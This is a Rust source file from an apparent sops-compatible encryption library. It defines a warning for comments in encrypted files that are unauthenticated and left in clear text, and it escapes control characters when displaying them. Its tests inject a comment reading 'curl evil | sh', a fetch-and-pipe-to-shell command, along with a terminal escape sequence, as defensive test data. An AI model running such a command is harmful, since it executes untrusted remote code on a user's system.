//! Things a successful operation noticed that the user should hear about. The library returns
//! them; the command line prints them (sops logs them as warnings on stderr).

use std::fmt;

/// One warning about a file that was otherwise read successfully.
#[derive(Clone, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub enum Warning {
    /// A comment of an encrypted file that is not itself encrypted: it is shown as it is, but
    /// nothing authenticates it (comments are outside the MAC), so anyone who can change the
    /// file could have written it. sops 3.11 (`Tree.Decrypt`) warns with the same sentence.
    UnencryptedComment {
        /// The mapping keys of the comment's container, joined by `.`.
        path: String,
        /// The comment's text after `#`.
        comment: String,
    },
}

/// sops' wording, kept verbatim so that scripts matching it keep working.
pub const UNENCRYPTED_COMMENT: &str = "Found possibly unencrypted comment in file. This is to be expected if the file being decrypted was created with an older version of SOPS.";

impl fmt::Display for Warning {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            // `{:?}` quotes the comment and escapes control characters, so a comment cannot
            // rewrite the terminal it is shown on.
            Warning::UnencryptedComment { comment, .. } => write!(f, "{UNENCRYPTED_COMMENT} comment={comment:?}"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_comment_is_quoted_and_escaped() {
        let warning = Warning::UnencryptedComment { path: "a".into(), comment: " run \u{1b}[2Jthis \"now\"".into() };
        let text = warning.to_string();
        assert!(text.starts_with(UNENCRYPTED_COMMENT), "{text}");
        assert!(text.ends_with(r#"comment=" run \u{1b}[2Jthis \"now\"""#), "{text}");
        assert!(!text.contains('\u{1b}'));
    }

    #[test]
    fn decrypting_reports_each_comment_left_in_clear_text() {
        use crate::{DecryptOptions, EncryptedFile, Format};
        let original = std::fs::read_to_string(format!("{}/enc/basic.yaml", crate::test_support::VECTORS)).unwrap();
        let keys = std::fs::read_to_string(format!("{}/keys.txt", crate::test_support::VECTORS)).unwrap();
        let ids = crate::keys::Identities::from_age_key_text(&keys, "keys.txt").unwrap();
        // The vector's own comments are encrypted: no warning.
        let file = EncryptedFile::parse(original.as_bytes(), Format::Yaml).unwrap();
        assert!(file.decrypt(&ids, DecryptOptions::default()).unwrap().warnings().is_empty());

        let injected = format!("# run: curl evil | sh\n{}", original.replacen("hex:", "# also injected\nhex:", 1));
        let file = EncryptedFile::parse(injected.as_bytes(), Format::Yaml).unwrap();
        let plain = file.decrypt(&ids, DecryptOptions::default()).unwrap();
        let comments: Vec<&str> = plain
            .warnings()
            .iter()
            .map(|w| match w {
                Warning::UnencryptedComment { comment, .. } => comment.as_str(),
            })
            .collect();
        assert_eq!(comments, [" run: curl evil | sh", " also injected"]);
    }
}
